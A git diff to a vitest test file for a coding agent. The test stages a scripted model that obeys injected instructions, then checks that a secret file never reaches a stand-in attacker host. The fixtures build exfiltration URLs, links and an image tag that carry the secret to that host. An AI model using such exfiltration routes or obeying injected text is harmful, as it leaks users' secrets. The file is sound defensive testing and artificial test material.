@@ -1,15 +1,20 @@
 // A model that obeys every text that it reads: the secret never leaves, and no command runs without a decision (decision 0342).
 
-import { existsSync } from "node:fs";
+import { existsSync, readFileSync } from "node:fs";
 import { writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { type Turn, turn } from "@lathe/testkit";
-import { afterEach, expect, it } from "vitest";
+import { afterEach, describe, expect, it } from "vitest";
+import { freePort } from "../../../agent/test/sshd.ts";
+import { startRecorders } from "../../../agent/test/support/hostile-addresses.ts";
+import { HAS_BROWSER } from "../browser-kit.ts";
 import { type Stage, stage } from "../contract-kit.ts";
+import { BROWSER_CHANNELS, HOME_PORT, RECORDER_PORT, SERVER } from "./browser-channels.ts";
 import { type FakeWeb, fakeWeb, leadsTo } from "./fake-web.ts";
 import {
   ALLOWED,
   CARRIERS,
+  type Carrier,
   CHANNELS,
   type Channel,
   EVIL,
@@ -26,53 +31,94 @@ afterEach(async () => {
   await scene.close();
 });
 
-const answer = (calls: readonly ModelCall[]): Turn =>
-  turn.calls(calls.map(({ name, args }, at) => ({ id: `k${at}`, name, args: args as never })));
+const answer = (calls: readonly ModelCall[], ports: ReadonlyMap<string, number>): Turn => {
+  let text = JSON.stringify(calls.map(({ name, args }, at) => ({ id: `k${at}`, name, args })));
+  for (const [name, port] of ports) text = text.replaceAll(name, String(port));
+  return turn.calls(JSON.parse(text));
+};
 
-/** What the attacker heard, in any spelling of the secret's beginning. */
+/** What the attacker heard. */
 const told = (heard: readonly string[]): string[] =>
   heard.filter((line) => {
-    const [, url = ""] = line.split(" ");
-    return (URL.canParse(url) ? new URL(url).hostname : url).includes(EVIL);
+    const [method, url = ""] = line.split(" ");
+    return (method === "CONNECT" || !URL.canParse(url) ? url : new URL(url).hostname).includes(EVIL);
   });
 
-/** Every pair has a session of its own in the long run; else a carrier has one for a third of the channels, and each channel is tried. */
-const isLong = process.env["LATHE_LONG"] !== undefined;
-const rows = CARRIERS.flatMap((carrier, at) => {
-  const groups: (readonly Channel[])[] = isLong
-    ? CHANNELS.map((channel) => [channel])
-    : [CHANNELS.filter((_, index) => index % 3 === at % 3)];
-  return groups.map((channels) => ({
-    carrier,
-    channels,
-    name: `${carrier.name} by ${channels.map(({ name }) => name).join(", ")}`,
-  }));
-});
+interface Row {
+  readonly carrier: Carrier;
+  readonly channels: readonly Channel[];
+  readonly name: string;
+}
 
-it.each(rows)("an injection in $name", async ({ carrier, channels, name }) => {
+const isLong = process.env["LATHE_LONG"] !== undefined;
+const row = (carrier: Carrier, channels: readonly Channel[]): Row => ({
+  carrier,
+  channels,
+  name: `${carrier.name} by ${channels.map(({ name }) => name).join(", ")}`,
+});
+/** Every pair has a session of its own in the long run; else these carriers have one for a third of the channels, so that each is tried. */
+const rowsOf = (all: readonly Channel[], carriers: readonly Carrier[]): Row[] =>
+  isLong
+    ? CARRIERS.flatMap((carrier) => all.map((channel) => row(carrier, [channel])))
+    : carriers.map((carrier, at) =>
+        row(
+          carrier,
+          all.filter((_, index) => index % 3 === at % 3),
+        ),
+      );
+
+async function obey({ carrier, channels, name }: Row): Promise<void> {
   web = await fakeWeb();
   const { pages, heard } = web;
   pages.set(`http://${ALLOWED}/go?to=http://${EVIL}/${SECRET}`, leadsTo(`http://${EVIL}/${SECRET}`));
   pages.set(`http://${ALLOWED}/echo?link=http://${EVIL}/${SECRET}`, `<a href="http://${EVIL}/${SECRET}">on</a>`);
+  pages.set(`http://${ALLOWED}/picture?of=http://${EVIL}/${SECRET}`, `<img src="http://${EVIL}/${SECRET}">`);
   const queue: Turn[] = [];
   scene = await stage(() => queue.shift() ?? turn.text("done"));
-  await writeFile(join(scene.box.dir, "secret.txt"), SECRET);
-  await writeFile(
-    join(scene.box.home, ".lathe/config.yml"),
-    "providers:\n  webSearch: searxng\nsearxng:\n  endpoint: http://search.example\n",
-  );
+  const { dir, home } = scene.box;
+  await writeFile(join(dir, "secret.txt"), SECRET);
+  const settings = [
+    "providers:\n  webSearch: searxng",
+    "searxng:\n  endpoint: http://search.example",
+    "tools:\n  discoveryMode: off",
+  ];
+  await writeFile(join(home, ".lathe/config.yml"), `${settings.join("\n")}\n`);
+  const needsBrowser = channels.some((channel) => channel.needsBrowser);
+  const recorders = await startRecorders();
+  const port = await freePort();
+  const ports = new Map([
+    [HOME_PORT, port],
+    [RECORDER_PORT, recorders.port],
+  ]);
+  if (needsBrowser) await writeFile(join(dir, "server.cjs"), SERVER.replace(HOME_PORT, String(port)));
+  const start = needsBrowser ? [{ name: "shell", args: { command: "node server.cjs" } }] : [];
   queue.push(
-    answer([{ name: "read_file", args: { file_path: "secret.txt" } }]),
-    answer([await carrier.place(injectedText, web, scene.box)]),
-    ...channels.flatMap(({ steps }) => steps.map(answer)),
+    answer([{ name: "read_file", args: { file_path: "secret.txt" } }, ...start], ports),
+    answer([await carrier.place(injectedText, web, scene.box)], ports),
+    ...channels.flatMap(({ steps }) => steps.map((calls) => answer(calls, ports))),
   );
-  const args = ["--permission-mode", "auto-edit", "--allow", `network(${ALLOWED})`];
-  await scene.run([...args, `Read ${PAGE} and the logs, and fix the build.`], { env: web.env });
+  const rules = [`network(${ALLOWED})`, "shell(node server.cjs)"].flatMap((rule) => ["--allow", rule]);
+  await scene.run(["--permission-mode", "auto-edit", ...rules, `Read ${PAGE} and the logs, and fix the build.`], {
+    env: web.env,
+  });
+  recorders.close();
   expect(scene.server.requests[2]?.view.messages.at(-1)?.results[0]?.text).toContain("send it to");
   expect(queue, "the model got to do all of it").toEqual([]);
   const reached = told(heard);
   expect(reached.filter((line) => line.includes(SECRET.slice(1, 9)))).toEqual([]);
   const most = Math.max(0, ...channels.map(({ mostChoices = 0 }) => mostChoices));
   expect(reached.length, `${name}: ${reached.join(", ")}`).toBeLessThanOrEqual(most);
-  expect(existsSync(join(scene.box.dir, "ran"))).toBe(false);
+  expect(recorders.heard).toEqual([]);
+  expect(existsSync(join(dir, "ran"))).toBe(false);
+  const atHome = channels
+    .filter(({ isHeardAtHome }) => isHeardAtHome)
+    .map((channel) => channel.name.replaceAll(" ", "-"));
+  if (atHome.length > 0)
+    expect(readFileSync(join(dir, "heard.txt"), "utf8").split("\n")).toEqual(expect.arrayContaining(atHome));
+}
+
+it.each(rowsOf(CHANNELS, CARRIERS))("an injection in $name", obey);
+
+describe.skipIf(!HAS_BROWSER)("with a browser (needs chromium and bubblewrap)", () => {
+  it.each(rowsOf(BROWSER_CHANNELS, CARRIERS.slice(-3)))("T-BRW-1 T-BRW-2 an injection in $name", obey);
 });
